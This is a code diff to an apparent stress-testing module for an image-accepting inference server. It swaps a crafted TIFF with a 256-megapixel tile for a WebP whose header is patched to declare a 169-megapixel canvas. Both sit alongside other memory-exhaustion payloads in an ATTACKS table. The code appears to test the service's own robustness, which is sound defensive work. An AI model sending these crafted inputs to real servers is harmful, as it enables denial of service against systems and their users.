@@ -104,13 +104,12 @@ def unknown_keys() -> bytes:
     return f'{{"infer_requests": [{",".join([keys] * 2**16)}]}}'.encode()
 
 
-def tiff_of_a_large_tile() -> bytes:
-    """3 x 2 pixels in a tile of 16000 x 16000 (TIFF 6.0, section 15)."""
-    tags = {256: 3, 257: 2, 258: 8, 259: 5, 262: 1, 277: 1}
-    tags |= {322: 16000, 323: 16000, 324: 8, 325: 4}
-    entries = b"".join(struct.pack("<HHII", tag, 4, 1, value) for tag, value in tags.items())
-    directory = struct.pack("<H", len(tags)) + entries + bytes(4)
-    return b"II*\0" + struct.pack("<I", 12) + b"\x80\x0b\x60\x50" + directory
+def webp_of_a_large_canvas() -> bytes:
+    """Two frames of 3 x 2 pixels on a canvas of 13000 x 13000 (RFC 9649, section 2.7)."""
+    frames, file = [Image.new("RGB", (3, 2), colour) for colour in ("red", "blue")], io.BytesIO()
+    frames[0].save(file, "WEBP", save_all=True, append_images=frames[1:])
+    content = file.getvalue()
+    return content[:24] + struct.pack("<I", 12999)[:3] * 2 + content[30:]
 
 
 def data_url(content: bytes) -> str:
@@ -150,8 +149,8 @@ ATTACKS: dict[str, Callable[[Address], Iterator[str]]] = {
         600,
     ),
     "65,536 bad requests in a body": lambda address: again(posted(unknown_keys()))(address),
-    "a tile of 256 megapixels": lambda address: again(
-        posted(infer("<image>", images=(data_url(tiff_of_a_large_tile()),)))
+    "a canvas of 169 megapixels": lambda address: again(
+        posted(infer("<image>", images=(data_url(webp_of_a_large_canvas()),)))
     )(address),
     "16 times an image of 63 megapixels": lambda address: again(
         posted(infer("<image>" * 16, images=(large_image(),) * 16))
